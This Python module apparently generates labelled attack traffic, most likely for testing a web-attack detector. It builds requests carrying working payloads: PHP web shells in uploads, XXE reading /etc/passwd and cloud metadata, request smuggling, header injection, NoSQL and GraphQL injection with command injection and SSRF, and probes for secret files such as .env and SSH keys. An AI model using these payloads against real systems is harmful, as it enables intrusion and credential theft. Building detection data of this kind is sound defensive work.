"""Attacks that are more than a value: headers, bodies, names, whole requests and responses."""
import base64
import json

from transport import document, form, headers, multipart, query, transaction


def header(random):
    """A value with a line of a header or a request behind it."""
    end = random.choice(["\r\n", "\n", "\r", "\r\n "])
    return random.choice(["x", "/home", "en", "http://shop.example/"]) + end + random.choice([
        "Set-Cookie: session=evil", "Location: http://x.example/", "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK", "Content-Type: text/html\r\n\r\n<script>alert(1)</script>", "X-Injected: 1", "Refresh: 0;url=//x.example", "Access-Control-Allow-Origin: *",
        "Transfer-Encoding: chunked", "GET /admin HTTP/1.1\r\nHost: x", "Link: <//x.example/a.css>; rel=stylesheet", "Bcc: everybody@x.example", "Host: x.example", "Status: 302"])


def nosql_names(random, identifier):
    """Operators of a document store as names of arguments."""
    operator = random.choice(["$ne", "$gt", "$gte", "$lt", "$regex", "$in", "$nin", "$exists", "$where", "$or"])
    field = random.choice(["password", "user", "token", "email"])
    value = random.choice(["", "1", ".*", "x"])
    way = random.randrange(3)
    if way == 0:
        return query(random, identifier, value, f"{field}[{operator}]")
    if way == 1:
        return form(random, identifier, [("user", "admin"), (f"{field}[{operator}]", value)])
    return document(random, identifier, {"user": "admin", field: {operator: random.choice(["", None, 1, ["a"]])}}, "/login")


def xxe(random, identifier):
    """A document with entities, includes or a foreign document type."""
    target = random.choice(["file:///etc/passwd", "http://x.example/a.dtd", "http://169.254.169.254/latest/", "php://filter/convert.base64-encode/resource=index.php", "expect://id", "file:///c:/windows/win.ini", "netdoc:///etc/passwd"])
    body = random.choice([
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]><a>&x;</a>', f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "{target}"> %x;]><a/>', f'<!DOCTYPE a SYSTEM "{target}"><a/>', f'<!DOCTYPE a PUBLIC "-//a//b" "{target}"><a/>',
        f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{target}"/></a>', '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>', f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "{target}">]><svg><text>&xxe;</text></svg>',
        f'<?xml-stylesheet type="text/xsl" href="{target}"?><a/>'])
    way = random.randrange(4)
    if way == 0:
        return query(random, identifier, body, "xml")
    if way == 1:
        return form(random, identifier, [("xml", body)])
    kind = random.choice(["application/xml", "text/xml", "application/soap+xml"])
    return transaction(identifier, "POST", "/import", headers(random, ["Content-Type", kind]), body)


def smuggling(random, identifier):
    """A body whose end two servers see at different places, and its relatives."""
    smuggled = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n"
    lines = headers(random, ["Content-Type", "application/x-www-form-urlencoded"])
    extra = random.choice([
        [["Transfer-Encoding", "chunked"]], [["Transfer-Encoding", "xchunked"]], [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]], [["Transfer-Encoding", "identity, chunked, cow"]], [["Transfer-Encoding", "\"chunked\""]],
        [["Content-Length", "5"]], [["Content-Length", "+5"]], [["Content-Length", "5, 6"]], [["Content-Length", "0x10"]], [["Transfer_Encoding", "chunked"]], [["Transfer-Encoding", "chunked\x0b"]], [["Host", "x.example"]], [["X-Original-URL", "/admin"]], [["X-Rewrite-URL", "/admin"]],
        [["X-Middleware-Subrequest", "middleware:middleware"]]])
    return transaction(identifier, "POST", "/", lines + extra, smuggled)


def scanner(random, identifier):
    """A tool that names itself or probes."""
    tool = random.choice(["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "Nmap Scripting Engine; https://nmap.org/book/nse.html", "gobuster/3.6", "Wfuzz/3.1.0", "masscan/1.3", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                          "WPScan v3.8 (https://wpscan.com)", "Mozilla/5.0 zgrab/0.x", "feroxbuster/2.10", "dirbuster-1.0", "Acunetix-Product", "w3af.org", "Fuzz Faster U Fool v2.1", "commix/3.9", "Arachni/v1.6", "Mozilla/5.0 Jorgee", "DirBuster-1.0-RC1", "OpenVAS", "WhatWeb/0.5.5", "dalfox/2", "skipfish"])
    return transaction(identifier, random.choice(["GET", "GET", "HEAD"]), random.choice(["/", "/index.php", "/login", "/robots.txt"]), headers(random, browser=tool))


def left_behind(random, identifier):
    """A file that somebody left behind."""
    name = random.choice(["/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials", "/.ssh/id_rsa", "/wp-config.php.bak", "/wp-config.php~", "/backup.sql", "/db.sql.gz", "/site.zip", "/.htpasswd", "/config.php.old", "/server-status", "/actuator/env", "/actuator/heapdump", "/phpinfo.php", "/.vscode/sftp.json",
                          "/docker-compose.yml", "/id_rsa", "/.npmrc", "/WEB-INF/web.xml", "/.env.production", "/web.config", "/.idea/workspace.xml", "/composer.lock", "/.bash_history", "/dump.sql", "/database.sqlite", "/private.key", "/.kube/config", "/.config/gcloud/credentials.db", "/terraform.tfstate", "/.terraform/terraform.tfstate", "/api/.env", "/jolokia/list", "/index.php.swp", "/.hg/store", "/trace.axd", "/elmah.axd"])
    return transaction(identifier, "GET", name, headers(random))


def upload(random, identifier):
    """A file that the server would run."""
    name = random.choice(["shell.php", "a.phtml", "a.php5", "shell.php.jpg", "a.jsp", "a.jspx", "cmd.aspx", "a.asp;.jpg", ".htaccess", "a.pHp", "../../a.php", "a.php%00.jpg", "a.phar", "web.config", "a.ashx", "a.cgi", "a.shtml", "a.cfm", "a.php ", "a.php.", ".user.ini", "a.php::$DATA"])
    content = random.choice([b"<?php system($_GET['c']); ?>", b"GIF89a<?php eval($_POST[1]);?>", b"<%@ page import=\"java.io.*\" %>", b"AddType application/x-httpd-php .jpg", b"\x89PNG\r\n"])
    return multipart(random, identifier, [("title", "photo")], [("file", name, random.choice(["image/jpeg", "application/octet-stream", "application/x-php"]), content)])


def session(random, identifier):
    """A link from elsewhere with a session identifier, or a value that sets one."""
    name = random.choice(["PHPSESSID", "jsessionid", "ASP.NET_SessionId", "sessionid", "connect.sid", "sid", "laravel_session", "CFID", "session_id"])
    if random.random() < 0.5:
        return transaction(identifier, "GET", f"/login?{name}=deadbeef{random.randrange(9999)}", headers(random, ["Referer", "https://evil.example/"]))
    return query(random, identifier, random.choice([f"<script>document.cookie='{name}=evil; path=/'</script>", f"<meta http-equiv=Set-Cookie content='{name}=evil'>", f"x\r\nSet-Cookie: {name}=evil", f"document.cookie=\"{name}=1; domain=.shop.example\""]))


def graphql(random, identifier):
    """A query that nests or repeats without measure, or carries an attack in a string."""
    deep = "query{" + "friends{" * random.randint(20, 60) + "id" + "}" * 60
    many = "query{" + " ".join(f"a{n}: login(user:\"a\",password:\"{n}\"){{token}}" for n in range(random.randint(80, 200))) + "}"
    inside = random.choice(["{user(name:\"x' OR 1=1--\"){id}}", "{search(q:\"' UNION SELECT password FROM users-- \"){id}}", "mutation{post(text:\"<script>alert(1)</script>\"){id}}", "{file(path:\"../../../etc/passwd\"){data}}", "{ping(host:\"127.0.0.1; cat /etc/passwd\"){out}}", "{page(t:\"{{7*7}}\"){html}}", "{fetch(url:\"http://169.254.169.254/latest/meta-data/\"){body}}"])
    directives = "query{user" + "@include(if:true)" * random.randint(30, 90) + "{id}}"
    return document(random, identifier, {"query": random.choice([deep, many, inside, inside, inside, directives])}, "/graphql")


def response(random, identifier):
    """A response that tells what it should not."""
    body = random.choice([
        "<b>Warning</b>: mysqli_query(): You have an error in your SQL syntax; check the manual", "Unclosed quotation mark after the character string 'x'.", "ORA-00933: SQL command not properly ended", "Traceback (most recent call last):\n  File \"/app/a.py\", line 3, in f\nKeyError: 'x'",
        "java.lang.NullPointerException\n\tat com.shop.Cart.add(Cart.java:42)\n\tat com.shop.Main.run(Main.java:7)", "<b>Fatal error</b>:  Uncaught Error in /var/www/html/a.php on line 12", "Fatal error: Call to undefined function x() in /var/www/a.php on line 3", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn", "AWS_KEY=AKIAIOSFODNN7EXAMPLE", "<title>Index of /backup</title>", "<title>phpinfo()</title>", "uid=33(www-data) gid=33(www-data) groups=33(www-data)", "SQLSTATE[42000]: Syntax error or access violation: 1064",
        "System.Data.SqlClient.SqlException: Incorrect syntax near 'x'.", "Server Error in '/' Application.", "goroutine 1 [running]:\nmain.main()", "   at Shop.Cart.Add(Int32 id) in C:\\src\\Cart.cs:line 12", "<?php\n$db_password = 'x';", "; for 16-bit app support\n[fonts]", "PG::SyntaxError: ERROR:  syntax error at or near \"x\"",
        "sqlite3.OperationalError: near \"x\": syntax error", "TypeError: x\n    at Object.<anonymous> (/app/index.js:3:7)", "/usr/lib/ruby/gems/3.1.0/gems/rack/lib/a.rb:12:in `call'", "<title>WSO 2.5</title>", "org.postgresql.util.PSQLException: ERROR", "thread 'main' panicked at src/main.rs:2:5"])
    item = transaction(identifier, "GET", "/orders?id=7", headers(random))
    kind = "application/json" if body.startswith("{") else "text/html"
    page = random.choice([body, f"<html><body><pre>{body}</pre></body></html>", f"<html><head></head><body><p>Sorry.</p>{body}</body></html>"])
    item["response"] = {"status": random.choice([200, 500, 200]), "headers": [["Content-Type", kind]], "body": page}
    return item
